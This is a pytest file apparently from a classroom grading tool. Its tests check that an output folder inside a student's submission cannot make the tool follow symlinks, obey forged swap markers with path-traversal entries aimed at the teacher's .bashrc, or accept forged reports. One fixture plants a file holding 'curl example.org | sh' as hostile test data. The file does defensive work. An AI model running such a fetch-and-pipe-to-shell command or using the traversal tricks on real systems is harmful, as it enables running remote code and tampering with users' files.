"""An output folder may lie where other people's files do: nothing that they laid there is read, followed or obeyed."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from classes import RIGHT, WRONG, hand_in, make_course, request

from grader.batch.journal import Journal
from grader.batch.opening import output_folder
from grader.batch.places import Places, folder_of
from grader.batch.swap import finish_swap
from grader.batch.timings import Timings
from grader.errors import UsageError

MINE = "alias ll='ls -l'\n"


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file of the teacher's, far from any output folder."""
    file = tmp_path / "home" / ".bashrc"
    file.parent.mkdir()
    file.write_text(MINE)
    return file


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A student's clone."""
    return hand_in(tmp_path / "clone", {"inc": RIGHT})


def open_new(output: Path, *submissions: Path) -> None:
    with output_folder(output, submissions, is_new=True, is_regrade=False) as places:
        places.plan.write_text("{}")


def go_on(output: Path, *submissions: Path) -> None:
    with output_folder(output, submissions, is_new=False, is_regrade=False):
        pass


def mark(output: Path, *, before: str = "1", out: tuple[str, ...] = (), into: tuple[str, ...] = ()) -> Path:
    """Write the marker of a swap by hand."""
    marker = output / "batch" / "next" / "batch" / "ready.json"
    marker.parent.mkdir(parents=True)
    marker.write_text(json.dumps({"before": before, "out": out, "into": into}))
    return marker


# ------------------------------------------------------------------------------------------ a new batch


def test_a_marker_that_a_student_committed_moves_no_file_of_a_new_batch(clone: Path, mine: Path) -> None:
    grades = clone / "grades"
    mark(grades, out=(str(mine),), into=(str(mine),))
    (grades / "batch" / "next" / "evil").write_text("curl example.org | sh\n")
    before = sorted(grades.rglob("*"))
    with pytest.raises(UsageError, match="is not empty"):
        open_new(grades, clone)
    assert mine.read_text() == MINE
    assert sorted(grades.rglob("*")) == before


def test_a_new_batch_refuses_a_folder_with_anything_in_it_and_says_the_ways_out(tmp_path: Path) -> None:
    forged = tmp_path / "out" / "reports" / "aaa" / "junit.xml"
    forged.parent.mkdir(parents=True)
    forged.write_text("<testsuites/>")
    with pytest.raises(UsageError, match="is not empty") as caught:
        open_new(tmp_path / "out")
    assert "--output" in caught.value.text.en
    assert "--output" in caught.value.text.zh


def test_a_new_batch_takes_a_folder_that_is_new_or_empty(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for output in (tmp_path / "empty", tmp_path / "new" / "below"):
        open_new(output)
        assert Places(output).plan.is_file()


def test_a_run_that_is_refused_leaves_an_empty_folder_and_makes_none(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for name in ("empty", "new"):
        with (
            pytest.raises(ZeroDivisionError),
            output_folder(tmp_path / name, (), is_new=True, is_regrade=False),
        ):
            raise ZeroDivisionError
    assert [path.name for path in tmp_path.rglob("*")] == ["empty"]


def test_no_batch_is_written_through_a_link_in_the_folder_s_place(tmp_path: Path, mine: Path) -> None:
    (tmp_path / "grades").symlink_to(mine.parent)
    for opening in (open_new, go_on):
        with pytest.raises(UsageError, match="is a link"):
            opening(tmp_path / "grades")
    assert [path.name for path in mine.parent.iterdir()] == [".bashrc"]


@pytest.mark.parametrize("way", ["out/grades", "out/../grades", "deep/out/grades"])
def test_a_link_in_a_submission_on_the_way_to_the_folder_is_refused(clone: Path, mine: Path, way: str) -> None:
    link = clone / way.rpartition("out")[0] / "out"
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(mine.parent)
    with pytest.raises(UsageError, match="is a link"):
        open_new(clone / way, clone)
    assert [path.name for path in mine.parent.iterdir()] == [".bashrc"]


def test_a_link_beside_the_submission_in_its_checkout_is_refused(clone: Path, mine: Path) -> None:
    (clone / ".git").mkdir()
    (clone / "out").symlink_to(mine.parent)
    file = hand_in(clone / "exercises", {"inc": RIGHT}) / "inc.py"
    with pytest.raises(UsageError, match="is a link"):
        open_new(clone / "out" / "grades", file)


def test_a_link_of_the_teacher_s_own_on_the_way_is_no_matter(tmp_path: Path, clone: Path) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "home").symlink_to(tmp_path / "disk")
    open_new(tmp_path / "home" / "grades", clone)
    assert Places(tmp_path / "disk" / "grades").plan.is_file()


# ------------------------------------------------------------------------------------------ one that goes on


@pytest.fixture
def graded(tmp_path: Path) -> Places:
    """A folder with a batch, as far as opening it looks."""
    from grader.batch.plan import Plan, write_plan
    from grader.records import Device

    places = Places(tmp_path / "graded")
    write_plan(places, Plan(seed="7", device=Device.CPU, isolation=None, exercises=(), submissions=()))
    places.reports.mkdir()
    return places


@pytest.mark.parametrize(
    "name", ["batch/journal.jsonl", "batch/lock", "sources", "reports/alice", "batch/class.json", "batch/next", "a/b/c"]
)
def test_a_link_anywhere_in_the_folder_stops_a_run_that_goes_on(graded: Places, mine: Path, name: str) -> None:
    link = graded.root / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(mine)
    with pytest.raises(UsageError, match=f"{name} is a link"):
        go_on(graded.root)
    assert mine.read_text() == MINE


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_pipe_in_the_folder_is_not_waited_for(graded: Places) -> None:
    os.mkfifo(graded.journal)
    with pytest.raises(UsageError, match="no regular file"):
        go_on(graded.root)


@pytest.mark.parametrize("opened", [Journal, Timings])
def test_what_is_written_in_place_is_never_written_to_a_second_name(
    tmp_path: Path, mine: Path, opened: Callable[[Path], object]
) -> None:
    for place in (os.link, os.symlink):
        name = tmp_path / place.__name__
        place(mine, name)
        with pytest.raises(OSError, match="link"):
            opened(name)
    assert mine.read_text() == MINE


def test_a_lock_with_a_second_name_is_refused(graded: Places, mine: Path) -> None:
    graded.lock.hardlink_to(mine)
    with pytest.raises(UsageError, match="lock is a link"):
        go_on(graded.root)


def test_a_batch_within_a_submission_is_not_gone_on_with(clone: Path, tmp_path: Path) -> None:
    from grader.batch.plan import Plan, write_plan
    from grader.records import Device

    places = Places(clone / "grades")
    plan = Plan(seed="7", device=Device.CPU, isolation=None, exercises=(), submissions=(str(clone),))
    write_plan(places, plan)
    with pytest.raises(UsageError, match="may have made this batch") as caught:
        go_on(places.root)  # by what its plan says
    assert "--resume" in caught.value.text.zh
    with pytest.raises(UsageError, match="may have made this batch"):
        go_on(places.root, clone)
    go_on(_moved(places.root, tmp_path / "elsewhere"), clone)


def _moved(source: Path, target: Path) -> Path:
    return source.rename(target)


# ------------------------------------------------------------------------------------------ the swap


def moves_of(mine: Path) -> Iterator[dict[str, object]]:
    yield {"out": (str(mine),)}
    yield {"into": (str(mine),)}
    yield {"into": ("../../home/.bashrc",)}
    yield {"out": ("reports/../../home/.bashrc",)}
    yield {"out": ("gradebook.csv",), "before": "../../../home"}
    yield {"out": ("gradebook.csv",), "before": str(mine.parent)}
    yield {"out": ("gradebook.csv",), "before": "²"}
    yield {"into": ("batch/lock",)}
    yield {"into": ("gradebook.csv\n",)}


def test_a_marker_moves_nothing_but_a_batch_s_own_files(tmp_path: Path, mine: Path) -> None:
    for number, moves in enumerate(moves_of(mine)):
        output = tmp_path / f"out{number}"
        marker = mark(output, **moves)  # type: ignore[arg-type]
        (output / "gradebook.csv").write_text("old")
        with pytest.raises(UsageError, match=r"is no file of a batch") as caught:
            finish_swap(Places(output))
        assert "--output" in caught.value.text.zh
        assert marker.is_file()
        assert (output / "gradebook.csv").read_text() == "old"
    assert mine.read_text() == MINE
    assert [path.name for path in mine.parent.iterdir()] == [".bashrc"]


def test_a_marker_that_cannot_be_read_is_said(tmp_path: Path) -> None:
    marker = mark(tmp_path / "out")
    marker.write_text("{")
    with pytest.raises(UsageError, match="is damaged"):
        finish_swap(Places(tmp_path / "out"))


# ------------------------------------------------------------------------------------------ names


def test_ids_that_met_in_48_bits_have_folders_of_their_own() -> None:
    one, two = folder_of("A1"), folder_of("a 1")
    assert one != two
    assert len(one.rpartition("~")[2]) == 32
    assert folder_of("a1~0123456789ab") != "a1~0123456789ab"


# ------------------------------------------------------------------------------------------ all of it


def test_a_teacher_who_grades_a_clone_gets_no_forged_result(tmp_path: Path) -> None:
    from grader.batch.grade import grade_class
    from grader.runners.local import LocalRunner

    course = make_course(tmp_path / "course")
    clone = hand_in(tmp_path / "clone", {"inc": WRONG})
    (clone / "grades" / "reports").mkdir(parents=True)
    (clone / "grades" / "reports" / "junit.xml").write_text("<testsuites/>")
    with pytest.raises(UsageError, match="grades is not empty"):
        grade_class(request(course, clone, clone / "grades"), LocalRunner(1, others=True), workers=1)
